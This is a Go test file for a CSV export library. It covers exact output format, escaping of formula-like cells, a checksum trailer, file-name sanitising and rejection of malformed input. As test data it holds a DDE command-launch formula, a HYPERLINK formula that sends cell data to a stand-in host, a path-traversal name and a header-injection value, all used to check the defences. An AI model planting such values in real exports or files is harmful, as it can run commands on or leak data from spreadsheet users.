package tabular

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// The form of CSV, byte for byte.
func TestCSVForm(t *testing.T) {
	t.Parallel()
	h := sampleHeader()
	rows := []Row{row("plain", -1234, "USD"), row("=1+1, x", 1234, "JPY"), row("a\nb", 5, "KWD"), make(Row, 9)}
	want := "note,sequence,amount,fee,currency,day,at,paid,memo\r\n" +
		"plain,7,-12.34,,USD,2026-11-20,2026-11-20T09:30:00.123456Z,true,\r\n" +
		"\"'=1+1, x\",7,1234,,JPY,2026-11-20,2026-11-20T09:30:00.123456Z,true,\r\n" +
		"\"a\nb\",7,0.005,,KWD,2026-11-20,2026-11-20T09:30:00.123456Z,true,\r\n" +
		",,,,,,,,\r\n"
	file, _ := write(t, CSV, h, rows)
	if string(file) != want {
		t.Errorf("got\n%q\nwant\n%q", file, want)
	}
	h.CSV = Dialect{Separator: ";", Mark: true, Trailer: true}
	file, _ = write(t, CSV, h, rows)
	want = "\ufeff" + strings.NewReplacer(",", ";", "'=1+1, x", "'=1+1, x").Replace(want)
	want = strings.Replace(want, "'=1+1; x", "'=1+1, x", 1)
	got, trailer, _ := strings.Cut(string(file), csvEnd)
	if got != want || !strings.HasPrefix(trailer, "rows=4 sha256=") || !strings.HasSuffix(trailer, ";;;;;;;;\r\n") {
		t.Errorf("got\n%q\nwant\n%q", file, want)
	}
}

// What reliability asks of CSV (G11 to G19): the cell as a parser of others sees it.
func TestNoFormulaLeaves(t *testing.T) {
	t.Parallel()
	h := sampleHeader()
	for text, want := range map[string]string{
		`=cmd|'/c calc'!A1`: `'=cmd|'/c calc'!A1`, "+1+1": "'+1+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", `=HYPERLINK("http://x?"&A1)`: `'=HYPERLINK("http://x?"&A1)`,
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", "\x00=1": "\ufffd=1", "'x": "''x", "x=1": "x=1", "a\"b,c;d\ne": "a\"b,c;d\ne",
		"#end rows=1": "'#end rows=1", "#1": "#1",
	} {
		for _, separator := range []string{",", ";", "\t"} {
			h.CSV.Separator = separator
			file, _ := write(t, CSV, h, []Row{row(text, -1234, "USD")})
			reader := csv.NewReader(bytes.NewReader(file))
			reader.Comma = rune(separator[0])
			records, err := reader.ReadAll()
			if err != nil || len(records) != 2 {
				t.Fatalf("%q: %v", text, err)
			}
			if got := records[1]; got[0] != want || got[2] != "-12.34" || len(got) != 9 {
				t.Errorf("%q: the cell is %q beside %q, want %q", text, got[0], got[2], want)
			}
			rows, _, err := read(CSV, h, file)
			if err != nil || rows[0][0].Text() != clean(text) {
				t.Errorf("%q: %v, %v", text, rows, err)
			}
		}
	}
}

// The trailer is a record like the others to every parser, and adds nothing to a sum.
func TestTrailerIsARecord(t *testing.T) {
	t.Parallel()
	h := sampleHeader()
	h.CSV.Trailer = true
	file, _ := write(t, CSV, h, []Row{row("a", 1, "USD")})
	records, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil || len(records) != 3 || !strings.HasPrefix(records[2][0], "#end rows=1 sha256=") || strings.Join(records[2][1:], "") != "" {
		t.Errorf("%q, %v", records, err)
	}
}

// Names of files cannot leave their directory or break a header (G20, G21).
func TestFileNames(t *testing.T) {
	t.Parallel()
	for want, h := range map[string]Header{
		"general_journal-uk-v1.csv": journalOf("uk"),
		"unnamed-unnamed-v0.csv":    {Report: "../../etc/passwd", Book: "a\r\nSet-Cookie: x"},
		"unnamed-uk-v2.csv":         {Report: "A", Book: "uk", Schema: 2},
	} {
		if got := h.FileName(CSV); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
	if got := journalOf("uk").FileName("../x"); got != "general_journal-uk-v1.unnamed" {
		t.Error(got)
	}
}

// CSV that another program saved, or that never was ours, is not read.
func TestForeignCSV(t *testing.T) {
	t.Parallel()
	h := Header{Report: "r", Schema: 1, Book: "b", Columns: []Column{{Name: "note", Kind: KindText},
		{Name: "amount", Kind: KindAmount, Currency: "currency"}, {Name: "currency", Kind: KindText}, {Name: "day", Kind: KindDate}, {Name: "yes", Kind: KindBool}}}
	const head = "note,amount,currency,day,yes\r\n"
	for text, want := range map[string]error{
		"":                                              ErrCut,
		"note":                                          ErrCut,
		"note,amount\r\n":                               ErrOther,
		head:                                            nil,
		head + "a,1.00,USD,,\r\n":                       nil,
		head + "a,1.00,USD,,":                           ErrCut,
		head + "a,1.00,USD,,\n":                         ErrUnreadable,
		head + "a,1.0,USD,,\r\n":                        ErrUnreadable,
		head + "a,1.000,USD,,\r\n":                      ErrUnreadable,
		head + "a,01.00,USD,,\r\n":                      ErrUnreadable,
		head + "a,+1.00,USD,,\r\n":                      ErrUnreadable,
		head + "a,-0.00,USD,,\r\n":                      ErrUnreadable,
		head + "a,1.-1,USD,,\r\n":                       ErrUnreadable,
		head + "a,1e2,USD,,\r\n":                        ErrUnreadable,
		head + "a,\"1.00\",USD,,\r\n":                   ErrUnreadable,
		head + "a,1.00,,,\r\n":                          ErrUnreadable,
		head + "a,1.00,XXX,,\r\n":                       ErrUnreadable,
		head + "a,1,JPY,,\r\n":                          nil,
		head + "=a,1,JPY,,\r\n":                         ErrUnreadable,
		head + "'a,1,JPY,,\r\n":                         ErrUnreadable,
		head + "\"a\",1,JPY,,\r\n":                      ErrUnreadable,
		head + "\"a\"x,1,JPY,,\r\n":                     ErrUnreadable,
		head + "a\"b,1,JPY,,\r\n":                       ErrCut,
		head + "a\x00b,1,JPY,,\r\n":                     ErrUnreadable,
		head + "a\xffb,1,JPY,,\r\n":                     ErrUnreadable,
		head + "a,1,JPY,\r\n":                           ErrUnreadable,
		head + "a,1,JPY,,,\r\n":                         ErrUnreadable,
		head + "\r\n":                                   ErrUnreadable,
		head + "a,,,2026-02-29,\r\n":                    ErrUnreadable,
		head + "a,,,0000-01-01,\r\n":                    ErrUnreadable,
		head + "a,,,2026-02-28,1\r\n":                   ErrUnreadable,
		head + "#end rows=0\r\n":                        ErrChanged,
		head + "#end rows=0,,,,\r\n":                    ErrChanged,
		"\ufeff" + head + "a,,,,\r\n":                   nil,
		"note;amount;currency;day\r\n":                  ErrOther,
		head + "a,99999999999999999999999.00,USD,,\r\n": ErrUnreadable,
	} {
		_, _, err := read(CSV, h, []byte(text))
		if want == nil && err != nil {
			t.Errorf("%q: %v", text, err)
		}
		if want != nil {
			wantError(t, text, err, want)
		}
	}
}
